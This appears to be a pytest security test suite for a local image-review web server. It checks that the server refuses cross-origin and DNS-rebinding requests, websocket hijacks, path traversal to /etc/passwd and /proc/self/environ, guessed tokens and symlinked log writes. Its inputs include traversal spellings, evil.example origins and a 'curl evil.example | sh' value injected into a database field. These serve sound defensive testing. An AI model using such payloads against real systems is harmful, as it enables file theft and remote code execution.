"""What was done to a review before it had a door, done again to the real App: by other pages, other users, a database.

Each attack is tried beside the same request as the reviewer's own page sends it, which has to work.
"""

from __future__ import annotations

import http.client
import json
import os
import re
import socket
import ssl
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import psutil
import pymongo
import pytest

from imageclinic.cleaning.decisions import decision_log
from imageclinic.core.run import Run
from tests.helpers.certificate import make_certificate
from tests.helpers.review_run import COPIES, MISLABELED, make_run

pytestmark = pytest.mark.slow
_REVIEW = (
    "import sys; from imageclinic.workflows.review import review; "
    "review(sys.argv[1], port=0, address=sys.argv[2], certificate=sys.argv[3] or None, key=sys.argv[4] or None, "
    "reviewer='ann', say=lambda line: print(line, flush=True))"
)
WHOLE_VIEW = "@imageclinic/review/whole_view"


@dataclass(frozen=True)
class Review:
    """A review that is open: its run, what it printed, its process, and the reviewer's cookie."""

    run: Run
    lines: tuple[str, ...]
    process: psutil.Process
    cookie: str

    @property
    def link(self) -> str:
        return next(line.split()[-1] for line in self.lines if "Review as" in line)

    @property
    def port(self) -> int:
        port = urlsplit(self.link).port
        assert port
        return port

    @property
    def dataset(self) -> str:
        return urlsplit(self.link).path.rsplit("/", 1)[1]

    def own(self, name: str = "127.0.0.1") -> dict[str, str]:
        """The headers of the reviewer's own page under a name of this machine."""
        host = f"{name}:{self.port}"
        scheme = urlsplit(self.link).scheme
        return {"Host": host, "Origin": f"{scheme}://{host}", "Cookie": self.cookie, "Content-Type": "text/plain"}

    def operator(self, uri: str, **params: object) -> bytes:
        """A request to run an operator on the whole dataset."""
        asked = {"operator_uri": uri, "dataset_name": self.dataset, "view": [], "params": params}
        return json.dumps(asked).encode()


def ask(
    review: Review, method: str, path: str, headers: dict[str, str], body: bytes | None = None
) -> tuple[int, bytes, dict[str, str]]:
    """Ask with exactly these headers; return status, body and headers."""
    if review.link.startswith("https"):
        unchecked = ssl._create_unverified_context()
        connection: http.client.HTTPConnection = http.client.HTTPSConnection(
            "127.0.0.1", review.port, timeout=60, context=unchecked
        )
    else:
        connection = http.client.HTTPConnection("127.0.0.1", review.port, timeout=60)
    connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
    for name, value in headers.items():
        connection.putheader(name, value)
    if body is not None:
        connection.putheader("Content-Length", str(len(body)))
    connection.endheaders(body)
    answer = connection.getresponse()
    result = answer.status, answer.read(), {name.lower(): value for name, value in answer.getheaders()}
    connection.close()
    return result


def open_review(run: Run, address: str = "127.0.0.1", certificate: str = "", key: str = "") -> Iterator[Review]:
    """Open a review in a process of its own, and the link as a browser does; kill it, which ends its children."""
    command = [sys.executable, "-c", _REVIEW, str(run.path), address, certificate, key]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) as process:
        assert process.stdout
        lines = []
        for line in process.stdout:
            lines.append(line)
            if "Ctrl-C" in line:
                break
        # What is printed later must not fill the pipe.
        rest = threading.Thread(target=process.stdout.read)
        rest.start()
        try:
            assert process.poll() is None, "".join(lines)
            opened = Review(run, tuple(lines), psutil.Process(process.pid), "")
            where = urlsplit(opened.link)
            status, _, headers = ask(opened, "GET", f"{where.path}?{where.query}", {"Host": where.netloc})
            assert status == 200
            yield Review(run, tuple(lines), opened.process, headers["set-cookie"].split(";")[0])
        finally:
            children = psutil.Process(process.pid).children(recursive=True) if process.poll() is None else []
            if sys.platform == "linux":  # the others can't be asked to end the children of what was killed
                process.kill()
            else:
                process.terminate()
            rest.join(60)
            assert not children or {"mongod"} < {child.name() for child in children}, "database and server"
            assert psutil.wait_procs(children, timeout=20)[1] == []


@pytest.fixture(scope="module")
def review(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Review]:
    yield from open_review(make_run(tmp_path_factory.mktemp("attacked")))


def rows(review: Review) -> int:
    return len(decision_log.read(review.run.decisions))


NAMES = ("127.0.0.1", "localhost", "[::1]")


@pytest.mark.parametrize("name", NAMES)
def test_another_page_does_not_decide(review: Review, name: str) -> None:
    own, before = review.own(name), rows(review)
    body = review.operator(WHOLE_VIEW, decision="drop", sure=True)
    for headers in [
        {"Host": own["Host"], "Content-Type": "text/plain"},
        {"Host": own["Host"], "Origin": "http://evil.example", "Content-Type": "text/plain"},
        {**own, "Origin": "http://evil.example"},
        {**own, "Origin": "null"},
        {**own, "Origin": f"http://{name}:1"},
        {**own, "Sec-Fetch-Site": "cross-site"},
        {**own, "Host": f"evil.example:{review.port}", "Origin": f"http://evil.example:{review.port}"},
        {**own, "Host": f"0.0.0.0:{review.port}", "Origin": f"http://0.0.0.0:{review.port}"},
        {name: value for name, value in own.items() if name != "Cookie"},
        {name: value for name, value in own.items() if name != "Origin"},
    ]:
        status, text, _ = ask(review, "POST", "/operators/execute", headers, body)
        assert (status, text.count(b"\n")) == (403, 1), headers
    assert rows(review) == before
    assert ask(review, "POST", "/operators/execute", own, body)[0] == 200
    assert rows(review) > before
    assert ask(review, "POST", "/operators/execute", own, review.operator("@imageclinic/review/undo"))[0] == 200


@pytest.mark.parametrize("name", NAMES)
def test_another_page_reads_no_file_and_the_reviewers_own_only_pictures(review: Review, name: str) -> None:
    own, picture = review.own(name), f"/media?filepath={quote(str(review.run.root / COPIES[0]))}"
    status, body, headers = ask(review, "GET", picture, own)
    assert (status, headers["content-type"]) == (200, "image/png")
    assert body == (review.run.root / COPIES[0]).read_bytes()
    rebound = {**own, "Host": f"evil.example:{review.port}", "Origin": f"http://evil.example:{review.port}"}
    for path in (picture, "/media?filepath=/etc/passwd", "/", "/graphql", "/plugins"):
        for refused in (rebound, {"Host": own["Host"]}, {**own, "Host": f"0.0.0.0:{review.port}"}):
            assert ask(review, "GET", path, refused)[0] == 403, path
    for path in ("/etc/passwd", str(review.run.decisions), str(review.run.info_file), "/proc/self/environ"):
        for spelling in ("/media", "/media/", "/media%0A", "//media", "/./media", "/%6Dedia", "/static/../media"):
            status, body, _ = ask(review, "GET", f"{spelling}?filepath={quote(path)}", own)
            assert status != 200 or body.startswith(b"<!DOCTYPE html>"), (spelling, path)
    listing = review.operator("@voxel51/operators/list_files", path="/etc")
    assert ask(review, "POST", "/operators/execute", own, listing)[0] == 403


def test_the_apps_own_files_are_no_way_out(review: Review) -> None:
    for path in ("/plugins/@imageclinic/review/../../../../../../etc/passwd", "/..%2f..%2f..%2f..%2fetc%2fpasswd"):
        assert b"root:" not in ask(review, "GET", path, review.own())[1]


@pytest.mark.parametrize("path", ["/", "/graphql", "/events"])
def test_a_websocket_is_asked_the_same(review: Review, path: str) -> None:
    own = review.own()
    shake = {
        "Upgrade": "websocket",
        "Connection": "Upgrade",
        "Sec-WebSocket-Version": "13",
        "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==",
    }
    evil = f"evil.example:{review.port}"
    for headers in [
        {"Host": own["Host"], **shake},
        {"Host": own["Host"], "Origin": own["Origin"], **shake},
        {**own, "Origin": "http://evil.example", **shake},
        {**own, "Host": evil, "Origin": f"http://{evil}", **shake},
        {name: value for name, value in {**own, **shake}.items() if name != "Origin"},
    ]:
        assert ask(review, "GET", path, headers)[0] == 403, headers


def test_no_other_user_of_the_machine_sees_the_secret_or_reaches_the_database(review: Review) -> None:
    secret = re.findall(r"token=([\w-]+)", review.link)[0]
    ours = [review.process, *review.process.children(recursive=True)]
    assert {"mongod"} < {process.name() for process in ours}
    for process in ours:
        assert secret not in " ".join(process.cmdline())
        assert secret not in " ".join(process.environ().values())
        listening = [c.laddr for c in process.net_connections("inet") if c.status == psutil.CONN_LISTEN]
        assert {tuple(address)[1] for address in listening} <= {review.port}
        for connection in process.net_connections("unix"):
            if str(connection.laddr).endswith(".sock"):
                assert Path(str(connection.laddr)).parent.stat().st_mode & 0o077 == 0


def test_a_changed_database_leads_no_decision_elsewhere(review: Review, tmp_path: Path) -> None:
    other, before = make_run(tmp_path), rows(review)
    server = next(p for p in review.process.children() if "mongod" not in p.name())
    with pymongo.MongoClient(server.environ()["FIFTYONE_DATABASE_URI"]) as client:
        database = client["fiftyone"]
        found = database.datasets.find_one({"name": review.dataset})
        assert found
        samples = database[found["sample_collection_name"]]
        sample = samples.find_one({"image_id": MISLABELED[0]})
        assert sample
        info = found["info"]["imageclinic"]
        database.datasets.update_one(
            {"_id": found["_id"]}, {"$set": {"info.imageclinic": {**info, "run": str(other.path)}}}
        )
        samples.update_one({"_id": sample["_id"]}, {"$set": {"image_id": "x\ncurl evil.example | sh\n"}})

        def keep(sample_id: Any) -> Any:
            body = review.operator("@imageclinic/review/decide", decision="keep", ids=[str(sample_id)], ahead=None)
            return json.loads(ask(review, "POST", "/operators/execute", review.own(), body)[1])["result"]

        assert "is no image of" in keep(sample["_id"])["message"]
        assert rows(review) == before
        samples.update_one({"_id": sample["_id"]}, {"$set": {"image_id": sample["image_id"]}})
        assert keep(sample["_id"])["n"] == 1
    assert rows(review) == before + 1
    assert not other.decisions.exists()


def test_a_log_that_becomes_a_link_is_not_followed(review: Review, tmp_path: Path) -> None:
    victim, log = tmp_path / "bashrc", review.run.decisions
    victim.write_text("# mine\n")
    kept = log.read_bytes() if log.exists() else b""
    log.unlink(missing_ok=True)
    log.symlink_to(victim)
    body = review.operator(WHOLE_VIEW, decision="keep", sure=True, from_key=True)
    answer = json.loads(ask(review, "POST", "/operators/execute", review.own(), body)[1])["result"]
    log.unlink()
    log.write_bytes(kept)
    assert answer["message"].startswith("NOT SAVED.")
    assert f"{log} is a link" in answer["message"]
    assert victim.read_text() == "# mine\n"


def test_another_review_is_not_opened_by_this_ones_link(review: Review) -> None:
    where = urlsplit(review.link)
    query = re.sub(r"token=[\w-]+", "token=" + "A" * 43, where.query)
    status, text, headers = ask(review, "GET", f"{where.path}?{query}", {"Host": where.netloc})
    assert status == 403
    assert b"Open the link" in text and "set-cookie" not in headers


def test_an_open_address_is_as_guarded_and_encrypted(tmp_path: Path) -> None:
    certificate, key = make_certificate(tmp_path)
    for review in open_review(make_run(tmp_path), "0.0.0.0", str(certificate), str(key)):
        output = "".join(review.lines)
        assert "Whoever has the link and reaches 0.0.0.0 sees the images and decides as ann." in output
        assert f"For others: https://{socket.gethostname()}:{review.port}/datasets/" in output
        assert review.link.startswith(f"https://127.0.0.1:{review.port}/")
        body = review.operator(WHOLE_VIEW, decision="drop", sure=True)
        for name in (*NAMES, "10.0.0.1", socket.gethostname()):
            own = review.own(name)
            without = {header: value for header, value in own.items() if header != "Cookie"}
            assert ask(review, "POST", "/operators/execute", without, body)[0] == 403
            assert ask(review, "POST", "/operators/execute", {**own, "Origin": f"http://{own['Host']}"}, body)[0] == 403
            assert ask(review, "GET", "/media?filepath=/etc/passwd", own)[0] == 404
            assert ask(review, "GET", "/fiftyone", own)[0] == 200
        for name in ("evil.example", "0.0.0.0"):
            assert ask(review, "GET", "/fiftyone", review.own(name))[0] == 403
        assert rows(review) == 0
        with socket.create_connection(("127.0.0.1", review.port), timeout=60) as plain:
            plain.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
            assert not plain.recv(1000).startswith(b"HTTP/1.1 2")
        assert ask(review, "POST", "/operators/execute", review.own(), body)[0] == 200
        assert rows(review) > 0


def test_a_run_whose_log_is_a_link_is_not_opened(tmp_path: Path) -> None:
    run = make_run(tmp_path)
    (tmp_path / "bashrc").write_text("# mine\n")
    run.decisions.symlink_to(tmp_path / "bashrc")
    environment = {**os.environ, "COLUMNS": "1000"}
    command = [sys.executable, "-m", "imageclinic", "review", str(run.path), "--no-browser", "--port", "0"]
    done = subprocess.run(command, capture_output=True, text=True, check=False, env=environment)
    assert done.returncode == 2
    assert f"{run.decisions} is a link" in done.stderr
    assert (tmp_path / "bashrc").read_text() == "# mine\n"
